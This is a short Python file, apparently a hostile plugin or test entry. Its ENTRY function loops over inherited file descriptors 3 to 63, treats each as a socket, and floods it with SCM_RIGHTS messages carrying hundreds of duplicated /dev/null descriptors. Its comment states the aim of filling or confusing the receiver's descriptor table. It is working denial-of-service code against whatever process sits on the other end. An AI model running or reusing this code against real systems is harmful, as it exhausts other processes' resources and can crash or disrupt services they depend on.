# Sends descriptors along with its replies, to fill or to confuse the table of whoever receives them.
import array
import os
import socket


def ENTRY(*args, **kwargs):
    null = array.array("i", [os.open(os.devnull, os.O_RDWR)] * 250)
    for number in range(3, 64):
        try:
            with socket.socket(fileno=os.dup(number)) as one:
                one.settimeout(0.1)
                for _ in range(8):
                    one.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, null)])
        except OSError:
            pass
    return None
